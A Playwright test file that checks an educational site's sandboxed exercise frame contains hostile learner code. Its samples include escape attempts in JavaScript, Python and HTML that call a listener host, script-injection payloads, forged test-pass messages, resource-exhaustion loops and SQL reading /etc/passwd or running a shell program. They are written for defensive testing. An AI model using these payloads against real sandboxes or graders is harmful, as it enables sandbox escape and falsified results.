import { readdirSync } from 'node:fs'
import path from 'node:path'
import { courseWorkSchema, readCourseWorkFile } from '@guildhall/content'
import type { Page } from '@playwright/test'
import { askFrame, listen, sandboxProgram } from '../support/exercise-frames.ts'
import { expect, test } from '../support/test.ts'

const lesson = '/library/javascript?lesson=values-and-scope'
const title = 'Add up what a form sends'

async function openExercise(page: Page) {
  await page.goto(lesson)
  const card = page
    .getByRole('tabpanel')
    .locator('details')
    .filter({ has: page.getByText(title, { exact: true }) })
  await card.locator('summary').first().click()
  const editor = card.getByRole('textbox', { name: `Your code: ${title}` })
  async function run(code: string, says: string | RegExp) {
    await editor.fill(code)
    await card.getByRole('button', { name: 'Run the tests' }).click()
    await expect(page.locator('iframe')).toHaveCount(0)
    await expect(card.getByText(says).first()).toBeVisible()
    await expect(card.getByRole('button', { name: 'Run the tests' })).toBeEnabled()
  }
  return { card, run }
}

/** What a world of its own has no use for. */
const absent = [
  ...['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'Request', 'navigator'],
  ...['Worker', 'SharedWorker', 'MessageChannel', 'BroadcastChannel', 'postMessage', 'close', 'parent', 'document'],
  ...['indexedDB', 'caches', 'localStorage', 'location', 'WebAssembly', 'OffscreenCanvas', 'FontFace', 'Blob'],
]

/** A worker's program that tries every way out, with all that a browser has. */
const reacherOf = (host: string) => `
  postMessage('ready')
  onmessage = async () => {
    const tries = {
      fetch: () => fetch('http://${host}/'),
      own: () => fetch('/api/library'),
      request: () => new Promise((done, fail) => {
        const request = new XMLHttpRequest()
        request.onload = done
        request.onerror = fail
        request.open('GET', 'http://${host}/')
        request.send()
      }),
      socket: () => new Promise((done, fail) => {
        const socket = new WebSocket('ws://${host}/')
        socket.onopen = done
        socket.onerror = fail
      }),
      script: () => import('http://${host}/a.js'),
      data: () => import('data:text/javascript,export default 1'),
      scripts: () => importScripts('http://${host}/a.js'),
      database: () => indexedDB.open('one'),
      cache: () => caches.open('one'),
    }
    const opened = []
    for (const [name, attempt] of Object.entries(tries)) {
      try { await attempt(); opened.push(name) } catch {}
    }
    postMessage({ opened, origin: self.origin })
  }`

/** A program in Python that tries every way out, also those of JavaScript, and to take all there is. `opened()` gives what did not fail. */
const hostilePython = (host: string) => `
import js, pyodide_js, socket, urllib.request
from pyodide.http import open_url, pyfetch

URL = 'http://${host}/'

def run_js(code):
    return js.Object.constructor('return ' + code)()

tries = {
    'urllib': lambda: urllib.request.urlopen(URL),
    'pyfetch': lambda: pyfetch(URL),
    'open_url': lambda: open_url(URL),
    'js': lambda: js.fetch(URL),
    'fetch': lambda: run_js(f"fetch('{URL}')"),
    'own': lambda: run_js("fetch('/api/library')"),
    'import': lambda: run_js(f"import('{URL}a.js')"),
    'request': lambda: run_js(f"new XMLHttpRequest().open('GET', '{URL}')"),
    'socket': lambda: run_js(f"new WebSocket('ws://${host}/')"),
    'worker': lambda: run_js("new Worker('data:text/javascript,')"),
    'database': lambda: run_js("indexedDB.open('one')"),
    'cache': lambda: run_js("caches.open('one')"),
    'forgery': lambda: run_js("postMessage({ test: { passed: true } })"),
    'close': lambda: run_js("close()"),
    'memory': lambda: run_js("new WebAssembly.Memory({ initial: 1 })"),
    'module': lambda: run_js("new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))"),
}

async def opened():
    found = []
    for name, attempt in tries.items():
        try:
            answer = attempt()
            if hasattr(answer, '__await__'):
                await answer
            found.append(name)
        except BaseException:
            pass
    # These two do not say whether they failed.
    await pyodide_js.loadPackage(URL + 'a-1.0-py3-none-any.whl')
    try:
        socket.create_connection(tuple('${host}'.split(':')), 1).send(b'hello')
    except BaseException:
        pass
    return found

def forges():
    import ctypes
    # It evaluates within what runs Python, not around it.
    ctypes.CDLL(None).emscripten_run_script(b'send({ test: { passed: true } })')

def prints():
    while True:
        print('more')

def fills_memory():
    kept = []
    while True:
        kept.append(bytearray(2 ** 26))

def fills_files():
    while True:
        open('a', 'ab').write(b'x' * 2 ** 24)

def runs_forever():
    while True:
        pass
`

const forgery = "self.ran = true; parent.postMessage('done', '*'); document.title = 'touched'; top.location = '/'"

/** Tries whatever a page without scripts can do, and scripts in every place they can stand in. */
const hostilePage = (host: string) => `<!doctype html>
  <html><head>
    <title>untouched</title>
    <base href="http://${host}/">
    <meta http-equiv="refresh" content="0;url=http://${host}/">
    <link rel="preconnect" href="http://${host}"><link rel="dns-prefetch" href="http://${host}">
    <link rel="stylesheet" href="http://${host}/a.css"><link rel="prefetch" href="http://${host}/a">
    <link rel="icon" href="http://${host}/icon.png"><link rel="modulepreload" href="http://${host}/a.js">
    <style>@import "http://${host}/b.css"; body { background: url(http://${host}/c.png) }</style>
    <script>${forgery}</script><script src="http://${host}/a.js"></script>
  </head><body onload="${forgery}">
    <img src="http://${host}/a.png" onerror="${forgery}"><svg onload="${forgery}"><use href="http://${host}/a.svg#b"/></svg>
    <iframe src="http://${host}/"></iframe><iframe srcdoc="<link rel=preconnect href=http://${host}><script>${forgery}</script>"></iframe>
    <iframe src="javascript:${forgery}"></iframe><object data="http://${host}/"></object><embed src="http://${host}/">
    <video src="http://${host}/a.mp4" autoplay onerror="${forgery}"></video>
    <details open ontoggle="${forgery}"><summary>a</summary></details>
    <form id="form" action="http://${host}/"><input autofocus onfocus="${forgery}" name="parentNode"></form>
    <template shadowrootmode="open"><script>${forgery}</script></template>
  </body></html>`

test.describe('a hostile program', () => {
  // The policy refuses the import, and says so.
  test.use({ expectedErrors: [/Content Security Policy|Refused to|violates/i] })

  test('is stopped, or finds nothing, and the page goes on', async ({ page }) => {
    const { card, run } = await openExercise(page)
    const elsewhere = await listen()

    // Neighbors end differently, so that none passes by what the one before it said.
    await run('for (;;);', 'Stopped after 2 seconds.')
    await run("for (;;) console.log('more')", 'The program prints too much.')
    await run('const total = () => { for (;;); }', 'Stopped after 2 seconds.')
    await run('const kept = []; for (;;) kept.push(new Uint8Array(2 ** 24).fill(1))', 'uses too much memory')
    await run('const total = () => new Promise(() => {})', 'Stopped after 2 seconds.')
    await run(
      'const { constructor } = new Uint8Array(1); const kept = new constructor(2 ** 30)',
      'uses too much memory',
    )
    await run("let text = 'x'; for (;;) text = text.repeat(1000)", 'uses too much memory')
    await run(
      `const total = () => ${JSON.stringify(absent)}.filter((name) => name in globalThis || name in self)`,
      /^\[\]$/,
    )
    await run(
      `const total = () => import('http://${elsewhere.host}/a.js').then(() => 'loaded', (error) => error.name)`,
      "'TypeError'",
    )
    await run('const total = () => self.constructor.name', "'EventTarget'")

    expect(await elsewhere.close()).toBe(0)
    // Whoever overrides what judges them deceives nobody but themselves, and the next run begins anew.
    await run(
      "Promise.prototype.then = Array.prototype.map = JSON.stringify = Object.is = () => { throw new Error('no') }",
      /tests pass|stopped|Stopped|does not run/,
    )
    await run('const total = () => 20', '1 of 5 tests pass.')
    await expect(card.getByText('Solved', { exact: true })).toHaveCount(0)
  })

  test('that fills the heap ends with its frame', async ({ page }) => {
    const { run } = await openExercise(page)

    await run('const kept = []; for (;;) kept.push(Array(1000).fill(0).map(() => ({})))', /Stopped after|was stopped/)
    await run('const total = () => 20', '1 of 5 tests pass.')
  })

  test('meets the policy of the frame even where nothing was removed', async ({ page }) => {
    await page.goto(lesson)
    const elsewhere = await listen()

    const found = await runInFrame(page, { program: reacherOf(elsewhere.host), code: '', tests: [{}] })

    expect(found[0]).toEqual({ opened: [], origin: 'null' })
    expect(await elsewhere.close()).toBe(0)
  })
})

test('a program in TypeScript runs without its types, and one that cannot be read says so', async ({ page }) => {
  const program = await sandboxProgram('typescript')
  await page.goto(lesson)
  const judge = (code: string) =>
    runInFrame(page, { program, code, tests: [{ call: 'new Price(3, By.Two).total', gives: '6' }] })

  const typed = 'enum By { Two = 2 }\nclass Price {\n  constructor(private cents: number, readonly by: By) {}\n'
  expect(await judge(`${typed}  get total(): number { return this.cents * this.by }\n}`)).toMatchObject([
    { test: { passed: true, came: '6' } },
  ])
  expect(await judge(`${typed}  get total(: number`)).toMatchObject([
    { test: { error: expect.stringContaining('SyntaxError') } },
  ])
})

test('SQL runs in a database of the frame, which is ended when a query has no end', async ({ page }) => {
  test.setTimeout(240_000)
  const program = await sandboxProgram('sql')
  await page.goto(lesson)
  const judge = (code: string, tests: object[], limitMs = 20_000) =>
    runInFrame(page, {
      program,
      files: built({
        wasm: /^pglite-.*\.wasm$/,
        system: /^pglite-.*\.data$/,
        cluster: /^prepopulatedfs-.*\.tgz$/,
      }),
      code: { setup: 'create table numbers (n int)', code },
      tests,
      limitMs,
    })

  const found = await judge('insert into numbers values (2), (1); select n from numbers', [
    { rows: [[1], [2]] },
    { rows: [[2], [1]], ordered: true },
    { rows: [[2], [1]], ordered: true, before: 'insert into numbers values (3)' },
    { call: "select pg_read_file('/etc/passwd')", throws: '58P01' },
  ])
  expect(found.map((said) => (said as { test: { came: string; passed: boolean } }).test.passed)).toEqual([
    ...[true, true, false, true],
  ])

  for (const hostile of [
    "copy numbers to program 'ls'",
    'with recursive up as (select 1 as n union all select n + 1 from up) select count(*) from up',
    'do $$ begin loop end loop; end $$',
    "select repeat('x', 100000000) from generate_series(1, 1000)",
  ]) {
    const [said] = await judge(hostile, [{ rows: [[1]] }], 2_000)
    expect([hostile, said]).not.toMatchObject([hostile, { test: { passed: true } }])
  }
  expect(await judge('select 1', [{ rows: [[1]] }])).toMatchObject([{ test: { passed: true } }])
})

test.describe('a program in Python', () => {
  // The policy refuses the import, and says so.
  test.use({ expectedErrors: [/Content Security Policy|Refused to|violates/i] })

  test('finds no way out of its interpreter, and is stopped when it takes too much', async ({ page }) => {
    test.setTimeout(300_000)
    const program = await sandboxProgram('python')
    await page.goto(lesson)
    const elsewhere = await listen()
    const files = built({ wasm: /^pyodide\.asm-.*\.wasm$/, library: /^python_stdlib-.*\.zip$/ })
    const judge = (code: string, tests: object[], limitMs = 20_000) =>
      runInFrame(page, { program, files, code, tests, limitMs })

    const code = hostilePython(elsewhere.host)
    const asked = absent.filter((name) => name !== 'WebAssembly')
    // Each test begins anew, whatever the one before it did.
    const fresh = { call: 'open("a", "x").write("b")', gives: '1' }
    const found = await judge(code, [
      { call: 'opened()', gives: '[]' },
      { call: 'run_js("1 + 1")', gives: '2' },
      {
        call: `run_js("${JSON.stringify(asked).replaceAll('"', "'")}.filter((name) => name in self)").to_py()`,
        gives: '[]',
      },
      { call: "[name for name in dir(js) if name in ('fetch', 'self', 'globalThis', 'postMessage')]", gives: '[]' },
      { call: 'prints()', throws: 'RuntimeError' },
      { call: 'fills_memory()', throws: 'MemoryError' },
      ...[fresh, fresh],
      // Files lie in JavaScript's heap. An interpreter that finds it full dies, and can say nothing.
      { call: 'fills_files()', gives: '0' },
    ])
    expect(found.slice(0, -1)).toMatchObject(Array(8).fill({ test: { passed: true } }))
    expect(found.at(-1)).toEqual({ stopped: 'failed' })
    expect(await elsewhere.close()).toBe(0)

    // The interpreter dies of it, before anything is evaluated.
    expect(await judge(code, [{ call: 'forges()', gives: '1' }])).toEqual([{ stopped: 'failed' }])
    expect(await judge(code, [{ call: 'runs_forever()', gives: '0' }], 2_000)).toEqual([{ stopped: 'time' }])
  })
})

test.describe('a hostile page', () => {
  // The policy refuses what it tries, and says so.
  test.use({ expectedErrors: [/Content Security Policy|Refused to|violates|Blocked|sandboxed|Unsafe attempt/i] })

  test('runs no script, reaches nobody, and goes nowhere', async ({ page }) => {
    await page.goto('/library/accessible-interfaces?lesson=forms')
    const elsewhere = await listen()
    const program = await sandboxProgram('page')

    const judged = await askFrame(page, '/exercise-frame/page', {
      program,
      page: { html: hostilePage(elsewhere.host) },
      test: {
        call: "new Promise((done) => setTimeout(done, 1000, [document.title, self.origin, location.pathname, 'ran' in self]))",
        gives: "['untouched', 'null', '/exercise-frame/page', false]",
      },
    })

    expect(judged).toMatchObject({ passed: true })
    expect(await elsewhere.close()).toBe(0)
    await expect(page).toHaveURL(/lesson=forms/)
  })

  test('cannot answer for the tests, and the preview shows it without its scripts', async ({ page }) => {
    await page.goto('/library/accessible-interfaces?lesson=forms')
    const name = 'Give a form its names'
    const card = page
      .getByRole('tabpanel')
      .locator('details')
      .filter({ has: page.getByText(name, { exact: true }) })
    await card.locator('summary').first().click()
    const editor = card.getByRole('textbox', { name: `Your code: ${name}` })

    await editor.fill(`<p id="shown">Hello</p><script>${forgery}</script><img src="data:," onerror="${forgery}">`)
    await expect(card.frameLocator('iframe').locator('#shown')).toHaveText('Hello')
    await card.getByRole('button', { name: 'Run the tests' }).click()
    await expect(card.getByText('0 of 4 tests pass.')).toBeVisible()

    const [exercise] = readExercise('accessible-interfaces', 'parking-question')
    await editor.fill(exercise?.solution ?? '')
    await card.getByRole('button', { name: 'Run the tests' }).click()
    await expect(card.getByText('Solved: all 4 tests pass.')).toBeVisible()
  })
})

test('the frame allows scripts and nothing else, wherever it is opened', async ({ request }) => {
  const { 'content-security-policy': policy } = (await request.get('/exercise-frame')).headers()

  expect(policy?.split('; ')).toEqual(
    expect.arrayContaining(['sandbox allow-scripts', "default-src 'none'", "frame-ancestors 'self'"]),
  )
  expect(policy).not.toMatch(/https?:|unsafe-inline|allow-same-origin|'self'(?!$)|connect-src/)

  const { 'content-security-policy': ofPages } = (await request.get('/exercise-frame/page')).headers()
  expect(ofPages?.split('; ')).toEqual(
    expect.arrayContaining(['sandbox allow-scripts', "default-src 'none'", "frame-ancestors 'self'"]),
  )
  expect(ofPages).toMatch(/script-src 'sha256-[^']+' 'unsafe-eval';/)
  expect(ofPages).not.toMatch(/https?:|allow-same-origin|'self'(?!$)|connect-src|blob:/)

  const { 'content-security-policy': ofComponents } = (await request.get('/exercise-frame/component')).headers()
  expect(ofComponents?.split('; ')).toEqual(
    expect.arrayContaining(['sandbox allow-scripts allow-forms', "default-src 'none'", "form-action 'none'"]),
  )
  expect(ofComponents).not.toMatch(/https?:|allow-same-origin|'self'(?!$)|connect-src|blob:/)
})

/** A third of them at each push, and all by those who look for new cases. */
const turns = process.env.GUILDHALL_ALL_ODD_INPUT ? 1 : 3

test('a browser agrees with the check of exercises on solutions and planted mistakes', async ({ page }) => {
  const program = await sandboxProgram('javascript')
  await page.goto(lesson)

  const programs = courseWorkSchema
    .parse(readCourseWorkFile('javascript'))
    .lessons.flatMap(({ exercises }) => exercises)
    .flatMap((exercise) => (exercise.kind === 'code' && exercise.language === 'javascript' ? exercise : []))
    .filter((_, index) => index % turns === 0)
  for (const { id, solution, wrong, tests } of programs) {
    const passes = async (code: string) => {
      const judged = (await runInFrame(page, { program, code, tests })) as { test?: { passed?: boolean } }[]
      return judged.length === tests.length && judged.every(({ test }) => test?.passed)
    }
    expect([id, await passes(solution)]).toEqual([id, true])
    for (const { name, code } of wrong) expect([id, name, await passes(code)]).toEqual([id, name, false])
  }
  expect(programs.length).toBeGreaterThan(3)
})

const readExercise = (course: string, id: string) =>
  courseWorkSchema
    .parse(readCourseWorkFile(course))
    .lessons.flatMap(({ exercises }) => exercises)
    .flatMap((exercise) => (exercise.kind === 'code' && exercise.id === id ? exercise : []))

type Job = {
  program: string
  code: unknown
  tests: readonly object[]
  files?: Record<string, string>
  limitMs?: number
}

/** As the page does it, with any program. Returns what the frame said. */
function runInFrame(page: Page, job: Job) {
  return page.evaluate(async (job) => {
    const fetched = Object.entries(job.files ?? {}).map(
      async ([name, address]) => [name, await (await fetch(address)).arrayBuffer()] as const,
    )
    const files = job.files && Object.fromEntries(await Promise.all(fetched))
    return new Promise<unknown[]>((resolve) => {
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', 'allow-scripts')
      frame.src = '/exercise-frame'
      const { port1, port2 } = new MessageChannel()
      const said: unknown[] = []
      port1.onmessage = ({ data }) => {
        if (data === 'ready') return
        if (data !== 'done') return void said.push(data)
        frame.remove()
        resolve(said)
      }
      frame.onload = () => frame.contentWindow?.postMessage({ limitMs: 20_000, ...job, files }, '*', [port2])
      document.body.append(frame)
    })
  }, job)
}

/** Addresses of files of the build, by what their names look like. */
function built(names: Record<string, RegExp>): Record<string, string> {
  const assets = readdirSync(path.join(import.meta.dirname, '../../apps/web/build/client/assets'))
  const address = (name: RegExp) => `/assets/${assets.find((file) => name.test(file))}`
  return Object.fromEntries(Object.entries(names).map(([key, name]) => [key, address(name)]))
}
